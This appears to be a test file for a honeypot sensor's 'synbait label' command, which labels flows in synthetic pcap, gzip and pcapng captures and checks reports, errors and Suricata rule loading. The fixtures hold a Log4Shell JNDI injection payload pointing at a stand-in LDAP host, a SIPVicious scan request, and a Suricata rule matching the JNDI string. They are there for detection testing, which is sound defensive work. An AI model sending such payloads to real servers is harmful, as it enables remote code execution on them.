// `synbait label` as a user runs it (src/bin.mjs in a child process) on captures built here: pcap, gzip-compressed
// pcap, pcapng with raw-IP frames; records in the sensor's schema with the sensor's labels; a truncated file named
// with its byte offset, the flows before it still labelled, exit status 2; bad flags; --help.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { parseRecordLine } from '../../../src/record/ndjson.ts';
import type { FlowRecord } from '../../../src/record/flow-record.ts';
import { TCP_ACK, TCP_FIN, TCP_PSH, TCP_SYN } from '../../../src/wire/tcp.ts';
import { LINUX_SYN_OPTIONS, tcpFrame, udpFrame } from '../../helpers/frames.ts';
import { pcapngOf, pcapOf } from '../../helpers/pcap-file.ts';

const root = fileURLToPath(new URL('../../../', import.meta.url));
const dir = mkdtempSync(join(tmpdir(), 'synbait-label-test-'));
process.on('exit', () => rmSync(dir, { recursive: true, force: true }));

function label(args: string[]) {
  const r = spawnSync(process.execPath, ['src/bin.mjs', 'label', ...args], {
    cwd: root, encoding: 'utf8', timeout: 60_000, env: { PATH: process.env.PATH ?? '', HOME: process.env.HOME ?? '/tmp', NODE_OPTIONS: '' },
  });
  const records = r.stdout.split('\n').filter((l) => l.startsWith('{')).map((l) => {
    const p = parseRecordLine(l);
    assert.ok(p.ok, `a record line: ${l.slice(0, 80)}`);
    return (p as { record: FlowRecord }).record;
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr, records };
}

const LOG4J = 'GET / HTTP/1.1\r\nHost: 198.18.0.1\r\nUser-Agent: ${jndi:ldap://192.0.2.7:1389/Exploit}\r\n\r\n';

/** A client's conversation with a server: SYN, SYN-ACK, ACK, one request, FIN. */
function conversation(sport: number, request: string): Buffer[] {
  const c = { src: '203.0.113.9', dst: '198.18.0.1', sport, dport: 80 };
  const s = { src: c.dst, dst: c.src, sport: c.dport, dport: c.sport };
  return [
    tcpFrame({ ...c, seq: 100, flags: TCP_SYN, options: LINUX_SYN_OPTIONS(1) }),
    tcpFrame({ ...s, seq: 900, ack: 101, flags: TCP_SYN | TCP_ACK }),
    tcpFrame({ ...c, seq: 101, ack: 901, flags: TCP_ACK }),
    tcpFrame({ ...c, seq: 101, ack: 901, flags: TCP_ACK | TCP_PSH, payload: request }),
    tcpFrame({ ...c, seq: 101 + request.length, ack: 901, flags: TCP_FIN | TCP_ACK }),
  ];
}

const SIP = 'OPTIONS sip:100@198.18.0.1 SIP/2.0\r\nVia: SIP/2.0/UDP 203.0.113.9:5060;branch=z9hG4bK-1\r\nFrom: "sipvicious"<sip:100@1.1.1.1>;tag=1\r\nTo: "sipvicious"<sip:100@1.1.1.1>\r\nCall-ID: 1\r\nCSeq: 1 OPTIONS\r\nUser-Agent: friendly-scanner\r\nContent-Length: 0\r\n\r\n';
const frames = [...conversation(40000, LOG4J), udpFrame({ src: '203.0.113.9', dst: '198.18.0.1', sport: 5060, dport: 5060 }, SIP)];

test('pcap, pcap.gz and pcapng (raw IP) give the same records, labelled by the built-in rules', () => {
  const files = {
    pcap: join(dir, 'a.pcap'), gz: join(dir, 'a.pcap.gz'), ng: join(dir, 'a.pcapng'),
  };
  writeFileSync(files.pcap, pcapOf(frames));
  writeFileSync(files.gz, gzipSync(pcapOf(frames)));
  writeFileSync(files.ng, pcapngOf(frames.map((f) => f.subarray(14)), 101)); // LINKTYPE_RAW: IP packets without Ethernet
  const results = Object.values(files).map((f) => label(['--format', 'json', f]));
  for (const r of results) {
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.records.length, 2, r.stdout);
    const tcp = r.records.find((x) => x.proto === 'tcp')!;
    assert.equal(tcp.state, 'acked');
    assert.equal(Buffer.from(tcp.payload, 'base64').toString('latin1'), LOG4J);
    assert.ok(tcp.labels.some((l) => 'id' in l && l.id === 'sb-2011'), JSON.stringify(tcp.labels));
    assert.equal(tcp.end_reason, 'fin');
    assert.equal(tcp.sensor, 'label');
    const udp = r.records.find((x) => x.proto === 'udp')!;
    assert.ok(udp.labels.some((l) => l.name === 'SIPVicious Scanner Detection'));
  }
  assert.match(results[0]!.stderr, /1 of 1 files read, 2 records \(1 acked, 0 syn, 1 udp\)/);
});

test('a truncated file: its name and byte offset, every flow before the damage labelled, the next file still read, exit 2', () => {
  const whole = pcapOf([...conversation(40001, LOG4J), ...conversation(40002, 'GET /second HTTP/1.1\r\n\r\n')]);
  const cut = join(dir, 'cut.pcap');
  writeFileSync(cut, whole.subarray(0, whole.length - 20)); // inside the last record
  const other = join(dir, 'other.pcap');
  writeFileSync(other, pcapOf(conversation(40003, 'GET /third HTTP/1.1\r\n\r\n')));
  const r = label(['--format', 'json', cut, other]);
  assert.equal(r.code, 2);
  assert.match(r.stderr, new RegExp(`${cut.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: at byte \\d+: truncated`));
  const paths = r.records.map((x) => Buffer.from(x.payload, 'base64').toString('latin1').split('\r\n')[0]);
  assert.ok(paths.includes(LOG4J.split('\r\n')[0]), 'the first conversation is labelled');
  assert.ok(paths.includes('GET /second HTTP/1.1'), 'so is the second one, up to its last complete packet');
  assert.ok(paths.includes('GET /third HTTP/1.1'), 'and the next file');
  assert.match(r.stderr, /1 of 2 files read/);
});

test('not a capture, a missing file, bad flags: a clear message and exit 2; --help: exit 0', () => {
  const text = join(dir, 'notes.txt');
  writeFileSync(text, 'hello, not a capture\n');
  const notCapture = label([text]);
  assert.equal(notCapture.code, 2);
  assert.match(notCapture.stderr, /notes\.txt: at byte 0: not a pcap or pcapng file/);
  assert.match(label([join(dir, 'missing.pcap')]).stderr, /missing\.pcap: at byte 0: cannot read it: ENOENT/);
  for (const [args, re] of [[['--format', 'xml', text], /--format: expected console or json/], [['--frobnicate', text], /unknown flag --frobnicate/], [[], /name at least one capture file/], [['--flow-timeout', 'soon', text], /--flow-timeout/]] as const) {
    const r = label([...args]);
    assert.equal(r.code, 2, args.join(' '));
    assert.match(r.stderr, re);
  }
  const help = label(['--help']);
  assert.equal(help.code, 0);
  assert.match(help.stdout, /Usage: synbait label/);
});

test('console format: lurker-style lines with the hex dump', () => {
  const f = join(dir, 'console.pcap');
  writeFileSync(f, pcapOf(conversation(40004, LOG4J)));
  const r = spawnSync(process.execPath, ['src/bin.mjs', 'label', f], { cwd: root, encoding: 'utf8', env: { PATH: process.env.PATH ?? '', NODE_OPTIONS: '' } });
  assert.equal(r.status, 0, r.stderr);
  assert.match(r.stdout, /203\.0\.113\.9:40004 -> 198\.18\.0\.1:80 \(ACKed\)/);
  assert.match(r.stdout, /0000 {2}47 45 54 20/);
});

test('--report: the report of the labelled records instead of the records (json to stdout, html to -o)', () => {
  const f = join(dir, 'report.pcap');
  writeFileSync(f, pcapOf(frames));
  const json = spawnSync(process.execPath, ['src/bin.mjs', 'label', '--report', 'json', f], { cwd: root, encoding: 'utf8', env: { PATH: process.env.PATH ?? '', NODE_OPTIONS: '' } });
  assert.equal(json.status, 0, json.stderr);
  const r = JSON.parse(json.stdout) as { records: number; threats: { name: string; count: number; ruleset: string }[] };
  assert.equal(r.records, 2);
  assert.ok(r.threats.some((t) => t.name === 'Apache Log4j Remote Code Execution Vulnerability' && t.count === 1 && t.ruleset === 'synbait'), JSON.stringify(r.threats));
  const out = join(dir, 'report.html');
  const html = label(['--report', 'html', '-o', out, f]);
  assert.equal(html.code, 0, html.stderr);
  assert.match(readFileSync(out, 'utf8'), /SIPVicious Scanner Detection/);
  assert.equal(label(['--report', 'pdf', f]).code, 2);
  assert.match(label(['-o', out, f]).stderr, /-o\/--output goes with --report/);
});

test('Suricata .rules given to --rules label records too (community labels after ours), and the load is reported', () => {
  const rules = join(dir, 'local.rules');
  writeFileSync(rules, 'alert http any any -> any any (msg:"LOCAL JNDI in the User-Agent"; flow:established,to_server; http.user_agent; content:"${jndi:"; nocase; classtype:attempted-admin; priority:1; sid:9100001; rev:1;)\n');
  const f = join(dir, 'community.pcap');
  writeFileSync(f, pcapOf(conversation(40005, LOG4J)));
  const r = label(['--format', 'json', '--rules', rules, f]);
  assert.equal(r.code, 0, r.stderr);
  const labels = r.records[0]!.labels;
  assert.equal(labels.findIndex((l) => 'sid' in l), labels.length - 1, 'the community label comes after ours');
  assert.deepEqual(labels.at(-1), { sid: 9100001, rev: 1, name: 'LOCAL JNDI in the User-Agent', category: 'attempted-admin', severity: 'high', ruleset: 'local' });
  assert.match(r.stderr, /community signatures: 1 of 1 enabled rules loaded from 1 files/);
  const bad = join(dir, 'bad.rules');
  writeFileSync(bad, 'alert http any any -> any any (msg:"broken"; content:"x"; sid:9100002; rev:1; nosuchkeyword;)\n');
  const b = label(['--format', 'json', '--rules', bad, f]);
  assert.equal(b.code, 0, 'one bad rule never stops a load');
  assert.match(b.stderr, /0 of 1 enabled rules loaded.*(1 errors|1 skipped)/);
});
